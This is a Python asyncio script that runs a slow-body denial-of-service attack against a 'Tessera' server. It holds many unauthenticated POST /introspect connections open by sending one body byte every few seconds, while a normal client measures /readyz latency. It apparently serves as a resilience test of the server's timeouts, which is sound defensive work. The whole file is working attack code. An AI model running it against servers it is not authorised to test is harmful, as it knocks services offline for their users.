#!/usr/bin/env python3
"""Slow-body attack against a running Tessera, with a normal client alongside.

    slow_bodies.py HOST:PORT SLOW_CONNECTIONS [SECONDS=30] [BYTE_EVERY=4.8]

Opens SLOW_CONNECTIONS connections at once, each `POST /introspect` with
`Content-Length: 16000`, no credentials, then one body byte every BYTE_EVERY seconds —
and keeps replacing the ones the server closes, for SECONDS. Meanwhile a normal client
sends `GET /readyz` on a fresh connection every 0.5 s (5 s timeout each).

Prints one line: connections attempted, how many the server answered 408 / closed /
never accepted, the most slow connections open at once, and the normal client's
answered / failed requests with its median and worst latency.
"""
import asyncio
import statistics
import sys
import time


async def slow_body(host, port, every, stats, stop):
    """One slow connection, replaced by a new one whenever the server hangs up."""
    while not stop.is_set():
        stats["attempted"] += 1
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        except (OSError, asyncio.TimeoutError):
            stats["not_accepted"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["open"] += 1
        stats["max_open"] = max(stats["max_open"], stats["open"])
        try:
            writer.write(
                b"POST /introspect HTTP/1.1\r\nHost: tessera\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: 16000\r\n\r\ntoken="
            )
            await writer.drain()
            read = asyncio.ensure_future(reader.read(4096))
            while not stop.is_set():
                done, _ = await asyncio.wait({read}, timeout=every)
                if done:
                    answer = read.result()
                    if answer.startswith(b"HTTP/1.1 408"):
                        stats["answered_408"] += 1
                    else:
                        stats["closed_other"] += 1
                    break
                writer.write(b"a")
                await writer.drain()
            read.cancel()
        except (OSError, asyncio.TimeoutError):
            stats["closed_other"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def normal_client(host, port, latencies, failures, stop):
    while not stop.is_set():
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
            writer.write(b"GET /readyz HTTP/1.1\r\nHost: tessera\r\nConnection: close\r\n\r\n")
            await writer.drain()
            answer = await asyncio.wait_for(reader.read(4096), 5)
            writer.close()
            if answer.startswith(b"HTTP/1.1 200"):
                latencies.append(time.monotonic() - started)
            else:
                failures.append(answer[:20])
        except (OSError, asyncio.TimeoutError) as e:
            failures.append(type(e).__name__)
        await asyncio.sleep(0.5)


async def main():
    host, port = sys.argv[1].rsplit(":", 1)
    slow = int(sys.argv[2])
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 30
    every = float(sys.argv[4]) if len(sys.argv) > 4 else 4.8
    stats = dict(attempted=0, open=0, max_open=0, answered_408=0, closed_other=0, not_accepted=0)
    latencies, failures = [], []
    stop = asyncio.Event()
    tasks = [asyncio.ensure_future(slow_body(host, int(port), every, stats, stop)) for _ in range(slow)]
    tasks.append(asyncio.ensure_future(normal_client(host, int(port), latencies, failures, stop)))
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.wait(tasks, timeout=10)
    median = statistics.median(latencies) * 1000 if latencies else float("nan")
    worst = max(latencies) * 1000 if latencies else float("nan")
    print(
        f"slow={slow} {seconds:.0f}s: attempted={stats['attempted']} 408={stats['answered_408']} "
        f"closed_other={stats['closed_other']} not_accepted={stats['not_accepted']} max_open={stats['max_open']} | "
        f"normal client: ok={len(latencies)} failed={len(failures)} median={median:.1f}ms worst={worst:.1f}ms"
    )


asyncio.run(main())
